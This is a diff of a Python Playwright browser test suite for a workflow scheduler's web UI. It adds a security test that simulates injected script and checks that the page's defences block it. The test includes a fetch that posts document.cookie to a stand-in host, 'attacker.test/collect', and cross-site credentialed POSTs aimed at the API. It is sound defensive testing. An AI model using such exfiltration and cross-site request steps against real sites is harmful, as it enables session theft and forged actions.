@@ -4,10 +4,9 @@ VIEWER gets no trigger or clear buttons. Each page is saved as a screenshot in t
 
 from __future__ import annotations
 
-import json
 import re
 
-from tests.browser.browser_helpers import Page, api_call
+from tests.browser.browser_helpers import Page, api_call, other_site
 
 
 def test_sign_in_then_the_dag_list_shows_dags_tags_and_import_errors(page: Page):
@@ -29,15 +28,15 @@ def test_sign_in_then_the_dag_list_shows_dags_tags_and_import_errors(page: Page)
     assert p.locator("#who").inner_text().startswith("admin (ADMIN)")
     # The search box filters by id, and the URL keeps the filter (shareable).
     p.get_by_label("Search DAGs").fill("smoke")
-    p.wait_for_function("document.querySelectorAll('table.dags tbody tr').length === 1")
+    p.wait_for_function("() => document.querySelectorAll('table.dags tbody tr').length === 1")
     assert "search=smoke" in p.url
     p.get_by_label("Search DAGs").fill("")
-    p.wait_for_function("document.querySelectorAll('table.dags tbody tr').length === 2")
+    p.wait_for_function("() => document.querySelectorAll('table.dags tbody tr').length === 2")
     p.get_by_label("Tags").select_option("smoke")  # the tags filter, also kept in the URL
-    p.wait_for_function("document.querySelectorAll('table.dags tbody tr').length === 1")
+    p.wait_for_function("() => document.querySelectorAll('table.dags tbody tr').length === 1")
     assert "tags=smoke" in p.url and p.locator("table.dags tbody tr").get_attribute("data-dag-id") == "ui_smoke"
     p.get_by_label("Tags").select_option([])
-    p.wait_for_function("document.querySelectorAll('table.dags tbody tr').length === 2")
+    p.wait_for_function("() => document.querySelectorAll('table.dags tbody tr').length === 2")
     page.shot("02-dag-list")
 
 
@@ -128,7 +127,7 @@ def test_a_failed_try_shows_its_log(signed_in: Page):
     cell.click()
     p.wait_for_url(re.compile(r"/tasks/boom$"))
     log = p.get_by_label("Log", exact=True)
-    p.wait_for_function("document.querySelector('pre.log').textContent.includes('boom from the browser test')")
+    p.wait_for_function("() => document.querySelector('pre.log').textContent.includes('boom from the browser test')")
     assert "about to fail on purpose" in log.inner_text()
     assert p.get_by_role("tab", name="Try 1").get_attribute("aria-selected") == "true"
     assert "failed" in p.locator(".title .badge").inner_text()
@@ -156,19 +155,78 @@ def test_pools_page_shows_slots_and_the_dag_list_the_last_runs(signed_in: Page):
     page.shot("07-pools")
 
 
-def test_a_viewer_gets_no_trigger_pause_or_clear(page: Page):
-    claims = {"sub": "vera", "role": "VIEWER"}
-    import base64
-
-    part = base64.urlsafe_b64encode(json.dumps(claims).encode()).rstrip(b"=").decode()
-    page.page.context.add_init_script(f"localStorage.setItem('updraft.token', 'e30.{part}.')")
-    p = page.page
+def test_a_viewer_gets_no_trigger_pause_or_clear(signed_in: Page):
+    """The UI hides the buttons by the role the session names (local mode's all-admins API would let them through,
+    so the session's answer is a VIEWER's here)."""
+    page, p = signed_in, signed_in.page
+    viewer = {"username": "vera", "role": "VIEWER", "csrf_token": "unused"}
+    p.route("**/ui/session", lambda route: route.fulfill(json=viewer) if route.request.method == "GET"
+            else route.fallback())
     page.goto("/dags/ui_smoke")
     p.locator("table.grid, .grid-box p").first.wait_for()
     assert p.get_by_role("button", name="Trigger").count() == 0
     assert p.get_by_role("switch").is_disabled()
     assert p.locator("#who").inner_text().startswith("vera (VIEWER)")
     page.shot("08-viewer")
+
+
+def test_script_in_a_signed_in_page_reads_no_token_runs_no_inline_code_and_changes_nothing_alone(page: Page):
+    """What script injected into a page (``page.evaluate`` stands for it) can reach: not the token (an HttpOnly
+    cookie, nothing in storage), and a change through the session only with the page's CSRF token; an inline
+    script it adds does not run (the page's Content-Security-Policy); another site's page changes nothing."""
+    p = page.page
+    page.goto("/auth/login")
+    p.get_by_label("Username").fill("admin")
+    p.get_by_label("Password").fill("admin")
+    p.get_by_role("button", name="Sign in").click()
+    p.wait_for_url(re.compile(r"/dags$"))
+    p.locator("table.dags tbody tr").first.wait_for()
+    (cookie,) = [c for c in p.context.cookies() if c["name"] == "_token"]
+    assert (cookie["httpOnly"], cookie["sameSite"], cookie["path"]) == (True, "Strict", "/ui")
+    seen = p.evaluate("() => JSON.stringify([document.cookie, {...localStorage}, {...sessionStorage}])")
+    assert cookie["value"] not in seen and seen == '["",{},{}]'
+
+    with p.expect_console_message(lambda m: m.text.startswith("CSP violation:")):
+        injected = p.evaluate("""() => { const s = document.createElement("script");
+            s.textContent = "window.injected = true"; document.body.append(s); return window.injected === true; }""")
+    assert injected is False
+    with p.expect_console_message(lambda m: m.text.startswith("CSP violation:")):  # nor sends anything away
+        sent = p.evaluate("""() => fetch("http://attacker.test/collect", {method: "POST", body: document.cookie})
+            .then(() => true, () => false)""")
+    assert sent is False
+    assert [v.split(" blocked")[0] for v in page.csp_violations] == [
+        "CSP violation: script-src-elem", "CSP violation: connect-src"]
+    page.csp_violations.clear()  # provoked on purpose, as Chromium's own reports of them
+    page.errors[:] = [e for e in page.errors if "Content Security Policy" not in e]
+
+    page.expect_refusal(403, "/api/v2/pools")  # through the session without the token, and cross-site
+    post = """async ([target, headers]) => (await fetch(target, {method: "POST", headers: {"Content-Type":
+        "application/json", ...headers}, body: JSON.stringify({name: "by_script", slots: 1})})).status"""
+    assert p.evaluate(post, [page.url + "/ui/api/v2/pools", {}]) == 403  # the cookie alone: refused
+    csrf = p.evaluate("async () => (await (await fetch('/ui/session')).json()).csrf_token")
+    assert p.evaluate(post, [page.url + "/ui/api/v2/pools", {"X-CSRF-Token": csrf}]) == 201  # the page's way
+
+    # Another site's page (at localhost, another site than 127.0.0.1, and loopback too, which Chromium requires of
+    # a page reaching 127.0.0.1) sends simple cross-site requests (no preflight) with credentials: the browser
+    # sends no Strict cookie and says the request is cross-site; the API refuses both.
+    with other_site() as attacker:
+        p.goto(attacker)
+        for target in (page.url + "/ui/api/v2/pools", page.url + "/api/v2/pools"):
+            with p.expect_response(target) as answer:
+                p.evaluate("""async (target) => { await fetch(target, {method: "POST", mode: "no-cors",
+                    credentials: "include", headers: {"Content-Type": "text/plain"},
+                    body: JSON.stringify({name: "cross_site", slots: 1})}); }""", target)
+            assert answer.value.status == 403  # the API's answer (all-admins /api/v2 needs no credential at all)
+    names = [pool["name"] for pool in api_call(page.url, "GET", "pools")["pools"]]
+    assert "by_script" in names and "cross_site" not in names
+    api_call(page.url, "DELETE", "pools/by_script")
+
+    page.goto("/dags")
+    p.locator("table.dags tbody tr").first.wait_for()
+    p.wait_for_load_state("networkidle")
+    p.get_by_role("button", name="Sign out").click()
+    p.wait_for_url(re.compile(r"/auth/login"))
+    assert [c for c in p.context.cookies() if c["name"] == "_token"] == []
 
 
 def test_a_live_page_polls_only_while_visible(signed_in: Page):
